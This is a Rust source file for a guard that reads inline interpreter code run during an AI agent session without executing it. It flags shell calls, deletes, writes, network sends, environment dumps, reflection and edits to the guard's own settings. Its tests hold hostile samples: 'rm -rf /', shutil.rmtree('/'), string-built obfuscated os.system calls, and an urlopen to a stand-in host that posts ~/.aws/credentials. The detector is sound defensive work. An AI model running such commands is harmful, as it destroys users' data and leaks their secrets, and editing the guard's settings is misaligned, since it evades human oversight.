@@ -1,0 +1,688 @@
+//! Reading inline interpreter code (`python -c`, `node -e`, `ruby -e`, `perl -e`, `php -r`,
+//! `lua -e`, heredoc-fed programs, scripts the session wrote) without running it.
+//!
+//! No interpreter is embedded: the code is lexed into string literals and call sites, and a
+//! table per concern (shell execution, deletes, writes, reads, network, reflection) says which
+//! calls matter. The walker then grades what was found as if written in shell: a shell string
+//! passed to `os.system` is parsed by the shell walker, `shutil.rmtree('/')` is graded as
+//! `rm -rf /`, a write to the guard's settings is self-protection. What cannot be read (a
+//! command or a target built at run time, reflection) is reported as dynamic, never as safe.
+
+/// The language family, for the few calls whose meaning differs (`exec` runs code in Python
+/// and JavaScript's `eval`, but a shell command in Ruby, Perl and PHP).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum Lang {
+    Python,
+    JavaScript,
+    Ruby,
+    Perl,
+    Php,
+    Lua,
+    AppleScript,
+}
+
+impl Lang {
+    /// The language an interpreter program speaks.
+    pub(crate) fn of(program: &str) -> Option<Lang> {
+        Some(match program {
+            p if p.starts_with("python") || p == "pypy" || p == "pypy3" => Lang::Python,
+            "node" | "nodejs" | "deno" | "bun" | "tsx" | "ts-node" => Lang::JavaScript,
+            "ruby" | "irb" => Lang::Ruby,
+            "perl" => Lang::Perl,
+            "php" => Lang::Php,
+            "lua" | "luajit" => Lang::Lua,
+            "osascript" => Lang::AppleScript,
+            _ => return None,
+        })
+    }
+}
+
+/// What a piece of code does, as far as it can be read.
+#[derive(Debug, Default)]
+pub(crate) struct CodeFacts {
+    /// Shell command lines the code runs (literal strings, list forms joined).
+    pub shell: Vec<String>,
+    /// A shell command whose text is computed at run time.
+    pub dynamic_shell: bool,
+    /// Literal delete targets and whether the delete is recursive.
+    pub deletes: Vec<(String, bool)>,
+    /// A delete whose target is computed.
+    pub dynamic_delete: bool,
+    /// Literal paths the code writes, renames onto or copies onto.
+    pub writes: Vec<String>,
+    /// Literal paths the code reads.
+    pub reads: Vec<String>,
+    /// Network destinations (URLs or hosts) the code sends to, or `"?"` for a computed one.
+    pub sends: Vec<String>,
+    /// The whole environment is read (`os.environ`, `process.env`, `ENV`, `%ENV`).
+    pub env_dump: bool,
+    /// Reflection or code built from strings: the effect cannot be read.
+    pub reflection: Option<&'static str>,
+    /// Mentions the guard's socket (a raw socket client could speak to the daemon).
+    pub literals: Vec<String>,
+}
+
+/// One string literal and where it sits.
+#[derive(Debug)]
+struct Lit {
+    start: usize,
+    end: usize,
+    text: String,
+}
+
+/// Cap on what is scanned; longer code is scanned up to here (and judged dynamic past it by
+/// the caller's size rules).
+const MAX_CODE: usize = 64 * 1024;
+
+/// Scans `code` written in `lang`.
+pub(crate) fn scan(lang: Lang, code: &str) -> CodeFacts {
+    let code = clip(code, MAX_CODE);
+    let lits = literals(lang, code);
+    let mut f = CodeFacts {
+        literals: lits.iter().map(|l| l.text.clone()).take(64).collect(),
+        ..CodeFacts::default()
+    };
+    if lang == Lang::AppleScript {
+        // `do shell script "…"` is AppleScript's only way to the shell.
+        if let Some(i) = code.find("do shell script") {
+            match lits.iter().find(|l| l.start > i) {
+                Some(l) => f.shell.push(l.text.clone()),
+                None => f.dynamic_shell = true,
+            }
+        }
+        return f;
+    }
+    for call in calls(code) {
+        let args = call_args(code, call.open, &lits);
+        let name = call.name;
+        if let Some(kind) = exec_kind(lang, name) {
+            match kind {
+                Exec::Shell => shell_call(code, call.open, &args, &mut f),
+                Exec::Code => {
+                    // `exec('…literal…')`: read the literal as code; anything built is hidden.
+                    if args.only_literals && !args.lits.is_empty() {
+                        for l in &args.lits {
+                            let inner = scan(lang, l);
+                            merge(&mut f, inner);
+                        }
+                    } else if args.any {
+                        f.reflection.get_or_insert("code built at run time is executed");
+                    }
+                }
+            }
+        } else if let Some(recursive) = delete_kind(name, &args) {
+            let target = if name.ends_with(".unlink") || name.ends_with(".rmdir") {
+                // pathlib: `Path('/x').unlink()` names the target before the call.
+                path_receiver(code, call.name_start, &lits)
+            } else {
+                args.lits.first().cloned()
+            };
+            match target {
+                Some(t) => f.deletes.push((t, recursive)),
+                None => f.dynamic_delete = true,
+            }
+        } else if let Some(which) = write_kind(name, code, call.open, &args) {
+            match args.lits.get(which) {
+                Some(t) => f.writes.push(t.clone()),
+                None if args.lits.is_empty() => {}
+                None => {}
+            }
+        } else if is_read_call(name) {
+            if let Some(t) = args.lits.first() {
+                f.reads.push(t.clone());
+            }
+        }
+        if is_network_call(name) {
+            let dest = args
+                .lits
+                .iter()
+                .find(|l| l.contains("://") || l.contains('.'))
+                .cloned()
+                .unwrap_or_else(|| "?".to_owned());
+            f.sends.push(dest);
+        }
+        if let Some(why) = reflection_kind(name, &args) {
+            f.reflection.get_or_insert(why);
+        }
+    }
+    // Backticks and `%x()` / `qx()` run shell text in Ruby, Perl and PHP.
+    if matches!(lang, Lang::Ruby | Lang::Perl | Lang::Php) {
+        for l in lits.iter().filter(|l| code[l.start..].starts_with('`')) {
+            f.shell.push(l.text.clone());
+        }
+        for m in ["%x(", "%x{", "qx(", "qx{", "qx/"] {
+            for (i, _) in code.match_indices(m) {
+                let close = match m.as_bytes()[2] {
+                    b'(' => ')',
+                    b'{' => '}',
+                    _ => '/',
+                };
+                let body = &code[i + 3..];
+                if let Some(end) = body.find(close) {
+                    f.shell.push(body[..end].to_owned());
+                }
+            }
+        }
+    }
+    f.env_dump |= env_dump(lang, code);
+    if f.reflection.is_none() {
+        f.reflection = reflective_text(code);
+    }
+    f
+}
+
+fn merge(into: &mut CodeFacts, from: CodeFacts) {
+    into.shell.extend(from.shell);
+    into.dynamic_shell |= from.dynamic_shell;
+    into.deletes.extend(from.deletes);
+    into.dynamic_delete |= from.dynamic_delete;
+    into.writes.extend(from.writes);
+    into.reads.extend(from.reads);
+    into.sends.extend(from.sends);
+    into.env_dump |= from.env_dump;
+    if into.reflection.is_none() {
+        into.reflection = from.reflection;
+    }
+}
+
+fn clip(s: &str, max: usize) -> &str {
+    if s.len() <= max {
+        return s;
+    }
+    let mut end = max;
+    while !s.is_char_boundary(end) {
+        end -= 1;
+    }
+    &s[..end]
+}
+
+/// String literals: `'…'`, `"…"`, `` `…` ``, Python triple quotes, with backslash escapes.
+/// Template parts (`${…}`, `#{…}`, f-string braces) make a literal "computed"; those are
+/// kept out so a computed command is never mistaken for a literal one.
+fn literals(lang: Lang, code: &str) -> Vec<Lit> {
+    let b = code.as_bytes();
+    let mut out = Vec::new();
+    let mut i = 0;
+    while i < b.len() && out.len() < 512 {
+        let c = b[i];
+        // Comments: `#` (Python, Ruby, Perl, PHP), `//` (JS, PHP), `--` (Lua).
+        let comment = match lang {
+            Lang::Python | Lang::Ruby | Lang::Perl => c == b'#' && !prev_is(b, i, b'$'),
+            Lang::JavaScript => c == b'/' && b.get(i + 1) == Some(&b'/') && !prev_is(b, i, b':'),
+            Lang::Php => c == b'#' || (c == b'/' && b.get(i + 1) == Some(&b'/')),
+            Lang::Lua => c == b'-' && b.get(i + 1) == Some(&b'-'),
+            Lang::AppleScript => false,
+        };
+        if comment {
+            while i < b.len() && b[i] != b'\n' {
+                i += 1;
+            }
+            continue;
+        }
+        if !matches!(c, b'\'' | b'"' | b'`') {
+            i += 1;
+            continue;
+        }
+        let triple = lang == Lang::Python && b[i..].starts_with(&[c, c, c]);
+        let prefix_f = lang == Lang::Python
+            && i > 0
+            && matches!(b[i - 1], b'f' | b'F')
+            && (i < 2 || !b[i - 2].is_ascii_alphanumeric());
+        let delim_len = if triple { 3 } else { 1 };
+        let start = i;
+        let mut j = i + delim_len;
+        let mut text = Vec::new();
+        let mut templated = false;
+        let mut closed = false;
+        while j < b.len() {
+            if b[j] == b'\\' && j + 1 < b.len() {
+                let e = b[j + 1];
+                match e {
+                    b'n' => text.push(b'\n'),
+                    b't' => text.push(b'\t'),
+                    _ => text.push(e),
+                }
+                j += 2;
+                continue;
+            }
+            if triple {
+                if b[j..].starts_with(&[c, c, c]) {
+                    j += 3;
+                    closed = true;
+                    break;
+                }
+            } else if b[j] == c {
+                j += 1;
+                closed = true;
+                break;
+            }
+            let interpolates = match (lang, c) {
+                (Lang::JavaScript, b'`') => b[j] == b'$' && b.get(j + 1) == Some(&b'{'),
+                (Lang::Ruby, b'"' | b'`') => b[j] == b'#' && b.get(j + 1) == Some(&b'{'),
+                (Lang::Perl | Lang::Php, b'"' | b'`') => {
+                    b[j] == b'$' && b.get(j + 1).is_some_and(|n| n.is_ascii_alphabetic() || *n == b'{' || *n == b'_')
+                }
+                (Lang::Python, _) => prefix_f && b[j] == b'{' && b.get(j + 1) != Some(&b'{'),
+                _ => false,
+            };
+            templated |= interpolates;
+            text.push(b[j]);
+            j += 1;
+        }
+        if closed && !templated {
+            out.push(Lit {
+                start,
+                end: j,
+                text: String::from_utf8_lossy(&text).into_owned(),
+            });
+        }
+        i = j.max(i + 1);
+    }
+    out
+}
+
+fn prev_is(b: &[u8], i: usize, c: u8) -> bool {
+    i > 0 && b[i - 1] == c
+}
+
+/// A call site: a dotted name followed by `(`.
+struct Call<'a> {
+    name: &'a str,
+    name_start: usize,
+    open: usize,
+}
+
+fn calls(code: &str) -> Vec<Call<'_>> {
+    let b = code.as_bytes();
+    let mut out = Vec::new();
+    for (open, _) in code.match_indices('(') {
+        let mut s = open;
+        while s > 0 && (b[s - 1].is_ascii_alphanumeric() || matches!(b[s - 1], b'_' | b'.' | b':' | b'$')) {
+            s -= 1;
+        }
+        // `Path('x').unlink()`: keep the method with its dot so it can be told from `unlink(`.
+        let mut name = &code[s..open];
+        name = name.trim_start_matches(['.', ':']);
+        if let Some(p) = name.rfind(")") {
+            name = &name[p + 1..];
+        }
+        if !name.is_empty() && out.len() < 1024 {
+            let dotted_method = s > 0 && b[s - 1] == b')';
+            out.push(Call {
+                name: if dotted_method { &code[s..open] } else { name },
+                name_start: s,
+                open,
+            });
+        }
+    }
+    out
+}
+
+/// The literal arguments of a call, and whether anything else is passed.
+struct Args {
+    lits: Vec<String>,
+    /// Every argument is a literal or a list of literals.
+    only_literals: bool,
+    /// The call has arguments at all.
+    any: bool,
+    /// A list literal (`['rm', '-rf', '/']`) was passed: its elements form one argv.
+    list: bool,
+    /// The argument text, for flags like `shell=True` or `{recursive: true}`.
+    raw: String,
+}
+
+fn call_args(code: &str, open: usize, lits: &[Lit]) -> Args {
+    let b = code.as_bytes();
+    let mut depth = 0usize;
+    let mut i = open;
+    let mut end = b.len();
+    while i < b.len() {
+        if let Some(l) = lits.iter().find(|l| l.start == i) {
+            i = l.end;
+            continue;
+        }
+        match b[i] {
+            b'(' | b'[' | b'{' => depth += 1,
+            b')' | b']' | b'}' => {
+                depth = depth.saturating_sub(1);
+                if depth == 0 {
+                    end = i;
+                    break;
+                }
+            }
+            _ => {}
+        }
+        i += 1;
+        if i - open > 8192 {
+            break;
+        }
+    }
+    let inside: Vec<&Lit> = lits.iter().filter(|l| l.start > open && l.end <= end).collect();
+    // What is left once literals are removed: separators only means literal-only arguments.
+    let mut rest = String::new();
+    let mut k = open + 1;
+    for l in &inside {
+        rest.push_str(&code[k.min(l.start)..l.start]);
+        k = l.end;
+    }
+    rest.push_str(&code[k.min(end)..end]);
+    let list = rest.contains('[');
+    let only_literals = rest
+        .chars()
+        .all(|c| c.is_whitespace() || matches!(c, ',' | '[' | ']' | '(' | ')'));
+    Args {
+        lits: inside.iter().map(|l| l.text.clone()).collect(),
+        only_literals,
+        any: !code[open + 1..end.min(b.len())].trim().is_empty(),
+        list,
+        raw: code[open + 1..end.min(b.len())].to_owned(),
+    }
+}
+
+enum Exec {
+    /// Runs a shell command line (or an argv).
+    Shell,
+    /// Runs code in the same language.
+    Code,
+}
+
+/// Calls that run a shell command or code, per language.
+fn exec_kind(lang: Lang, name: &str) -> Option<Exec> {
+    let last = name.rsplit(['.', ':']).next().unwrap_or(name);
+    const SHELL_ANY: &[&str] = &[
+        "system", "popen", "spawn", "spawnSync", "execSync", "execFile", "execFileSync",
+        "execvp", "execv", "execve", "execl", "execlp", "spawnv", "spawnvp", "spawnl",
+        "check_output", "check_call", "getoutput", "getstatusoutput", "Popen", "shell_exec",
+        "passthru", "proc_open", "pcntl_exec", "capture2", "capture2e", "capture3",
+        "popen2", "popen3", "posix_spawn", "posix_spawnp", "spawn_detached",
+    ];
+    if SHELL_ANY.contains(&last) {
+        return Some(Exec::Shell);
+    }
+    match (lang, last) {
+        (Lang::Python, "run" | "call") if name.contains("subprocess") || name == "sp.run" => {
+            Some(Exec::Shell)
+        }
+        (Lang::Python, "exec" | "eval" | "compile") if !name.contains('.') => Some(Exec::Code),
+        (Lang::Python, "spawn") if name.contains("pty") => Some(Exec::Shell),
+        (Lang::JavaScript, "exec") if name.contains("child_process") || name.contains("cp.") || name == "exec" => {
+            Some(Exec::Shell)
+        }
+        (Lang::JavaScript, "eval" | "Function") => Some(Exec::Code),
+        (Lang::JavaScript, "Command" | "run") if name.starts_with("Deno") => Some(Exec::Shell),
+        (Lang::JavaScript, "spawn" | "spawnSync" | "$") if name.starts_with("Bun") => Some(Exec::Shell),
+        (Lang::Ruby | Lang::Perl | Lang::Php, "exec") => Some(Exec::Shell),
+        (Lang::Ruby, "instance_eval" | "class_eval" | "eval") => Some(Exec::Code),
+        (Lang::Perl | Lang::Php, "eval") => Some(Exec::Code),
+        (Lang::Lua, "execute") if name.starts_with("os") => Some(Exec::Shell),
+        (Lang::Lua, "popen") => Some(Exec::Shell),
+        (Lang::Lua, "loadstring" | "load" | "dofile") => Some(Exec::Code),
+        _ => None,
+    }
+}
+
+fn shell_call(code: &str, open: usize, args: &Args, f: &mut CodeFacts) {
+    let _ = (code, open);
+    if args.lits.is_empty() {
+        if args.any {
+            f.dynamic_shell = true;
+        }
+        return;
+    }
+    if !args.only_literals {
+        // `os.system('rm -rf ' + path)`: the literal part is graded, the rest is unknown.
+        f.dynamic_shell = true;
+    }
+    if args.list {
+        // `['rm', '-rf', '/']` or `('sh', ['-c', 'x'])`: one argv.
+        let argv: Vec<String> = args.lits.iter().map(|a| shell_quote(a)).collect();
+        f.shell.push(argv.join(" "));
+    } else {
+        let argv: Vec<String> = args.lits.iter().map(|a| shell_quote(a)).collect();
+        // A single string is a command line (`os.system('rm -rf /')`, `shell=True`); several
+        // strings are an argv (`spawn('rm', ['-rf', '/'])`, `execlp('rm','rm','-rf','/')`).
+        if args.lits.len() == 1 {
+            f.shell.push(args.lits[0].clone());
+        } else {
+            f.shell.push(argv.join(" "));
+        }
+    }
+}
+
+fn shell_quote(t: &str) -> String {
+    if !t.is_empty()
+        && t.bytes()
+            .all(|c| c.is_ascii_alphanumeric() || b"-_./=:,+@%~*".contains(&c))
+    {
+        return t.to_owned();
+    }
+    format!("'{}'", t.replace('\'', "'\\''"))
+}
+
+/// `Some(recursive)` for a delete API.
+fn delete_kind(name: &str, args: &Args) -> Option<bool> {
+    let last = name.rsplit(['.', ':']).next().unwrap_or(name);
+    let recursive_flag = args.raw.contains("recursive") && args.raw.contains("true");
+    Some(match last {
+        "rmtree" | "rm_rf" | "rm_r" | "remove_tree" | "removedirs" | "rimraf" | "emptyDir"
+        | "emptyDirSync" | "remove_dir_all" | "deleteRecursively" => true,
+        "rm" | "rmSync" | "rmdir" | "rmdirSync" | "remove" | "removeSync" if !name.starts_with("os.path") => {
+            recursive_flag
+        }
+        "unlink" | "unlinkSync" | "delete" | "rm_f" | "safe_unlink" | "remove_file" => false,
+        _ => return None,
+    })
+    .filter(|_| {
+        // Method calls on anything (`list.remove(x)`, `map.delete(k)`) are not file deletes;
+        // require a file-ish receiver or a bare call.
+        let recv = name.rsplit_once(['.', ':']).map(|(r, _)| r).unwrap_or("");
+        recv.is_empty()
+            || [
+                "os", "shutil", "fs", "fsp", "fs.promises", "promises", "FileUtils", "File",
+                "Dir", "Deno", "Path", "pathlib", "rimraf", "fse", "File::Path", "std::fs",
+                "Pathname", "FileUtils:", "Files", "unlink", ")",
+            ]
+            .iter()
+            .any(|k| recv.ends_with(k))
+            || name.ends_with(").unlink")
+            || name.ends_with(").rmdir")
+    })
+}
+
+/// The receiver of a pathlib method: `Path('/x').unlink()` → `/x`.
+fn path_receiver(code: &str, name_start: usize, lits: &[Lit]) -> Option<String> {
+    let before = &code[..name_start];
+    let lit = lits.iter().rev().find(|l| l.end <= name_start)?;
+    let between = &before[lit.end..];
+    between
+        .trim()
+        .trim_matches(')')
+        .trim()
+        .is_empty()
+        .then(|| lit.text.clone())
+}
+
+/// Index of the literal argument that is written, for a write API.
+fn write_kind(name: &str, code: &str, open: usize, args: &Args) -> Option<usize> {
+    let last = name.rsplit(['.', ':']).next().unwrap_or(name);
+    match last {
+        "open" | "fopen" | "File.open" => {
+            // The mode decides: `w`, `a`, `x`, `+`, or Perl's `>`.
+            let mode = args.lits.get(1).map(String::as_str).unwrap_or("");
+            let perl = args.lits.first().is_some_and(|m| m.starts_with('>') || m.starts_with("+<"));
+            if perl {
+                return if args.lits.len() >= 2 { Some(1) } else { Some(0) };
+            }
+            (mode.contains(['w', 'a', 'x', '+']) || args.raw.contains("'w") || args.raw.contains("\"w"))
+                .then_some(0)
+        }
+        "write_text" | "write_bytes" => None,
+        "writeFileSync" | "writeFile" | "appendFileSync" | "appendFile" | "file_put_contents"
+        | "writeTextFile" | "writeTextFileSync" | "writeFileStr" | "binwrite" | "outputFileSync"
+        | "outputFile" | "createWriteStream" | "truncateSync" | "truncate" => Some(0),
+        "write" if name.starts_with("File") || name.starts_with("IO") || name.contains("fs.") => Some(0),
+        "copy" | "copy2" | "copyfile" | "copytree" | "move" | "rename" | "replace"
+        | "copyFileSync" | "copyFile" | "renameSync" | "cp" | "cpSync" | "mv" | "symlink"
+        | "symlinkSync" | "link" | "linkSync" | "copySync" | "moveSync" => {
+            let _ = (code, open);
+            (args.lits.len() >= 2).then_some(1)
+        }
+        "chmod" | "chown" | "chmodSync" | "chownSync" => Some(0),
+        "connect" if name.contains("sqlite") => Some(0),
+        _ => None,
+    }
+}
+
+fn is_read_call(name: &str) -> bool {
+    let last = name.rsplit(['.', ':']).next().unwrap_or(name);
+    matches!(
+        last,
+        "open"
+            | "readFileSync"
+            | "readFile"
+            | "read_text"
+            | "read_bytes"
+            | "file_get_contents"
+            | "readTextFile"
+            | "readTextFileSync"
+            | "read"
+            | "readlines"
+            | "binread"
+            | "createReadStream"
+            | "load"
+            | "fopen"
+            | "file"
+    ) && !name.starts_with("json.load")
+}
+
+fn is_network_call(name: &str) -> bool {
+    const SENDERS: &[&str] = &[
+        "urlopen", "Request", "post", "put", "patch", "request", "fetch", "HTTPConnection",
+        "HTTPSConnection", "create_connection", "sendto", "sendall", "send_request", "post_form",
+        "curl_init", "curl_exec", "fsockopen", "stream_socket_client", "Socket", "TCPSocket",
+        "UDPSocket", "connect", "IO::Socket::INET", "LWP::UserAgent", "Net::HTTP", "axios",
+        "urlretrieve", "upload", "sendmail", "SMTP",
+    ];
+    let last = name.rsplit(['.', ':']).next().unwrap_or(name);
+    let network_receiver = [
+        "requests", "httpx", "urllib", "http", "https", "axios", "socket", "aiohttp", "session",
+        "client", "Net::HTTP", "HTTP", "smtplib", "ftplib", "got", "superagent", "net", "dgram",
+    ];
+    if matches!(last, "fetch" | "urlopen" | "curl_exec" | "fsockopen" | "stream_socket_client") {
+        return true;
+    }
+    SENDERS.contains(&last)
+        && (network_receiver.iter().any(|r| name.contains(r)) || name == "axios" || name == "fetch")
+}
+
+/// Reflection: calls whose target or code is chosen by a string.
+fn reflection_kind(name: &str, args: &Args) -> Option<&'static str> {
+    let last = name.rsplit(['.', ':']).next().unwrap_or(name);
+    match last {
+        "getattr" | "setattr" if !args.only_literals || args.lits.len() < 2 => {
+            Some("getattr with a computed attribute")
+        }
+        "__import__" | "import_module" if !args.only_literals => Some("a module chosen at run time"),
+        "send" | "public_send" | "__send__" | "const_get" | "constantize" | "method" => {
+            Some("a method chosen by name at run time")
+        }
+        "call_user_func" | "call_user_func_array" | "create_function" => Some("a function chosen by name"),
+        "runInNewContext" | "runInThisContext" | "runInContext" => Some("code run in a VM context"),
+        "require" if !args.only_literals && args.any => Some("a module chosen at run time"),
+        "loads" if name.contains("pickle") || name.contains("marshal") => Some("deserialized code"),
+        "b64decode" | "fromhex" | "decode" | "fromCharCode" | "atob" | "unhexlify" => None,
+        _ => None,
+    }
+}
+
+/// Textual reflection markers that are not calls (`globals()['os']`, `new Function`).
+fn reflective_text(code: &str) -> Option<&'static str> {
+    [
+        ("globals()[", "globals() lookup"),
+        ("locals()[", "locals() lookup"),
+        ("__builtins__", "builtins lookup"),
+        ("__globals__", "function globals lookup"),
+        ("__subclasses__", "class hierarchy walk"),
+        ("new Function", "code built from a string"),
+        ("ctypes", "native calls through ctypes"),
+    ]
+    .iter()
+    .find(|(k, _)| code.contains(k))
+    .map(|(_, why)| *why)
+}
+
+fn env_dump(lang: Lang, code: &str) -> bool {
+    let whole = |needle: &str| {
+        code.match_indices(needle).any(|(i, _)| {
+            let next = code[i + needle.len()..].chars().next();
+            !matches!(next, Some('[' | '.' | '(')) || code[i + needle.len()..].starts_with(".items")
+                || code[i + needle.len()..].starts_with(".copy")
+        })
+    };
+    match lang {
+        Lang::Python => whole("os.environ") || code.contains("printenv"),
+        Lang::JavaScript => whole("process.env") || code.contains("Deno.env.toObject"),
+        Lang::Ruby => whole("ENV") && (code.contains("ENV.to_h") || code.contains("ENV.each") || code.contains("ENV.inspect")),
+        Lang::Perl => code.contains("%ENV"),
+        Lang::Php => code.contains("getenv()") || code.contains("$_ENV") || code.contains("$_SERVER"),
+        Lang::Lua | Lang::AppleScript => false,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn python_shell_strings_and_argv_lists() {
+        let f = scan(Lang::Python, "import os; os.system('rm -rf /')");
+        assert_eq!(f.shell, vec!["rm -rf /"]);
+        let f = scan(Lang::Python, "import subprocess; subprocess.run(['rm','-rf','/'])");
+        assert_eq!(f.shell, vec!["rm -rf /"]);
+        let f = scan(Lang::Python, "import os,sys; os.system(sys.argv[1])");
+        assert!(f.dynamic_shell);
+    }
+
+    #[test]
+    fn deletes_and_receivers() {
+        let f = scan(Lang::Python, "import shutil; shutil.rmtree('/')");
+        assert_eq!(f.deletes, vec![("/".to_owned(), true)]);
+        let f = scan(Lang::Python, "import pathlib; pathlib.Path('/home/u').rmdir()");
+        assert_eq!(f.deletes, vec![("/home/u".to_owned(), false)]);
+        let f = scan(Lang::JavaScript, "require('fs').rmSync('/', {recursive: true})");
+        assert_eq!(f.deletes, vec![("/".to_owned(), true)]);
+        let f = scan(Lang::Python, "x = [1]; x.remove(1)");
+        assert!(f.deletes.is_empty());
+    }
+
+    #[test]
+    fn reflection_and_built_strings() {
+        assert!(scan(Lang::Python, "getattr(__import__('os'), 'sys'+'tem')('id')")
+            .reflection
+            .is_some());
+        assert!(scan(Lang::Python, "exec('import os; os.sys' + 'tem(\"ls\")')")
+            .reflection
+            .is_some());
+        assert!(scan(Lang::Python, "print(1+1)").reflection.is_none());
+        let f = scan(Lang::Python, "exec('import os; os.system(\"rm -rf ~\")')");
+        assert_eq!(f.shell, vec!["rm -rf ~"]);
+    }
+
+    #[test]
+    fn templated_strings_are_not_literals() {
+        let f = scan(Lang::JavaScript, "require('child_process').execSync(`rm -rf ${d}`)");
+        assert!(f.dynamic_shell && f.shell.is_empty());
+    }
+
+    #[test]
+    fn writes_and_network() {
+        let f = scan(Lang::Python, "open('/home/u/.claude/settings.json','w').write('{}')");
+        assert_eq!(f.writes, vec!["/home/u/.claude/settings.json"]);
+        let f = scan(
+            Lang::Python,
+            "import urllib.request; urllib.request.urlopen('https://x.example', data=open('/home/u/.aws/credentials').read().encode())",
+        );
+        assert_eq!(f.sends, vec!["https://x.example"]);
+        assert!(f.reads.contains(&"/home/u/.aws/credentials".to_owned()));
+    }
+}
